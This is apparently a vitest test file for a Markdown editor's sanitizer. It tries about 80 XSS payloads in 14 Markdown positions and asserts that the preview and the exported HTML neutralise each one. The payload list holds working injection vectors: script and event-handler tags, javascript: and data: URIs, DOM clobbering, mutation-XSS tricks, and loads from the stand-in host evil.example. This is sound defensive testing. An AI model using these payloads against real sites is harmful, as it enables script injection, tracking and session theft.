import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import { describe, expect, it } from 'vitest';
import { readArticle } from '../../../shared/article/article.ts';
import { exportHtml } from '../../../shared/export/html.ts';
import { renderBlock } from '../../../shared/markdown/render.ts';
import { violations } from './violations.ts';

/** Written from the classes of attack that Markdown editors have fallen to; each is tried in each place below. */
const payloads = [
  // Script and its like
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>@import "//evil.example/x.css"; body{background:url(//evil.example/i)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  // Frames and plug-ins
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="x.svg" type="image/svg+xml">',
  '<portal src="//evil.example"></portal>',
  '<frameset><frame src=//evil.example></frameset>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)" alt=a>',
  '<img src=x\u000conerror=alert(1)>',
  '<a href=# onclick=alert(1)>a</a>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<b onmouseover="alert(1)" style="position:fixed;inset:0">a</b>',
  '<p/onclick=alert(1)>a',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<sub onpointerenter=alert(1) tabindex=0 contenteditable>a</sub>',
  // Addresses
  '<a href="javascript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="java&#9;script:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="//evil.example/share">a</a>',
  '<a href="\\\\evil.example\\share">a</a>',
  '<a href="ms-msdt:/id">a</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x">',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\u0000script:alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '<javascript:alert(1)>',
  '[a](data:text/html,<script>alert(1)</script>)',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml;utf8,<svg/onload=alert(1)>)',
  '![a](https://evil.example/pixel.gif)',
  '![a](//evil.example/s/x.png)',
  '![a](\\\\evil.example\\s\\x.png)',
  '![" onerror="alert(1)](x.png "\' onload=\'alert(1)")',
  '[a](x.md "\\" onmouseover=\\"alert(1)")',
  '[a]: javascript:alert(1)\n\n[a]',
  // Names that would stand for the page's own
  '<a id=document name=cookie>a</a>',
  '<form id=getElementById><input name=parentNode></form>',
  '<img id=currentScript name=forms src=x>',
  '# document\n\n# constructor\n\n# __proto__',
  '<p class="image-remote" id="article-x" data-line="7" data-x="y" style="color:red">a</p>',
  // Parsers that disagree
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
  '<a title="--><img src=x onerror=alert(1)>">a</a>',
  '<a title="`<img src=x onerror=alert(1)>`">a</a>',
  '`<img src=x onerror=alert(1)>`',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<b><i><a href="x"><table><td><b></table><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  // Places of Markdown that end up in attributes
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js" onclick="alert(1)\ncode\n```',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: a',
  '- [x" onclick="alert(1)] a',
  '| <img src=x onerror=alert(1)> |\n|:-:|\n| <script>alert(1)</script> |',
];

const places: readonly (readonly [name: string, put: (payload: string) => string])[] = [
  ['alone', (payload) => payload],
  ['among words', (payload) => `매출 ${payload} 이익`],
  ['in a heading', (payload) => `## ${payload}`],
  ['in a list item', (payload) => `- ${payload}\n- 둘`],
  ['in a quote', (payload) => `> ${payload}`],
  ['in a table', (payload) => `| 항목 |\n|---|\n| ${payload} |`],
  ['as a link’s text', (payload) => `[${payload}](a.md)`],
  ['as a link’s address', (payload) => `[a](${payload})`],
  ['as an image’s text', (payload) => `![${payload}](a.png)`],
  ['as a link’s title', (payload) => `[a](a.md '${payload}')`],
  ['as a fence’s language', (payload) => `~~~${payload}\ncode\n~~~`],
  ['as a note', (payload) => `가[^1]\n\n[^1]: ${payload}`],
  [
    'as the title',
    (payload) =>
      `---\ntitle: ${JSON.stringify(payload)}\ndescription: ${JSON.stringify(payload)}\n---\n${payload}`,
  ],
  ['in the text form', (payload) => `TITLE:\n${payload}\nCONTENT:\n${payload}`],
];

type Parent = DefaultTreeAdapterTypes.ParentNode;
const elements = (parent: Parent) => parent.childNodes.filter((node) => node.nodeName !== '#text');
const child = (parent: Parent, name: string) =>
  elements(parent).find((node) => node.nodeName === name) as Parent;

/** The nodes of a file down to the article itself; anything beside them shows. */
function outline(html: string): string[] {
  const file = parse(html);
  const root = child(file, 'html');
  return [...elements(file), ...elements(root), ...elements(child(root, 'body'))].map(
    ({ nodeName }) => nodeName,
  );
}

function headTags(html: string): string[] {
  return elements(child(child(parse(html), 'html'), 'head')).map(({ nodeName }) => nodeName);
}

describe('a hostile article', () => {
  it('is really hostile: shown raw, the payloads do what must not come through', () => {
    expect(payloads.length).toBeGreaterThan(60);
    expect(payloads.filter((payload) => violations(payload).length > 0).length).toBeGreaterThan(50);
  });

  it.each(places)('comes to nothing in the preview: %s', (_, put) => {
    for (const payload of payloads) {
      const { blocks } = readArticle(put(payload));
      const html = blocks.map(({ block }) => renderBlock(block, { lines: true })).join('\n');
      expect(violations(html), payload).toEqual([]);
    }
  });

  it.each(places)('comes to nothing in the exported file: %s', (_, put) => {
    for (const payload of payloads) {
      const html = exportHtml(readArticle(put(payload)), {
        locale: 'ko',
        resolveImage: () => null,
        generator: '1.0.0',
      });
      expect(outline(html), payload).toEqual(['#documentType', 'html', 'head', 'body', 'main']);
      expect(
        headTags(html).filter((tag) => !['meta', 'title', 'style'].includes(tag)),
        payload,
      ).toEqual([]);
      const body = /<main class="article">([\s\S]*)<\/main>\n<\/body>\n<\/html>\n$/.exec(html)?.[1];
      // What stands around the notes is the export's own.
      const own = /<section class="footnotes" role="doc-endnotes" aria-label="각주">\n(.*)\n<\/section>/s;
      expect(violations(body?.replace(own, '$1') ?? '<script>'), payload).toEqual([]);
    }
  });

  it('shows the tags that it does not let through', () => {
    const html = readArticle('앞 <marquee>뒤</marquee>\n\n<form>\n이름\n</form>').blocks.map(({ block }) =>
      renderBlock(block),
    );
    expect(html).toEqual([
      '<p>앞 &#x3C;marquee>뒤&#x3C;/marquee></p>',
      '<div class="raw">&#x3C;form>\n이름\n&#x3C;/form></div>',
    ]);
  });
});
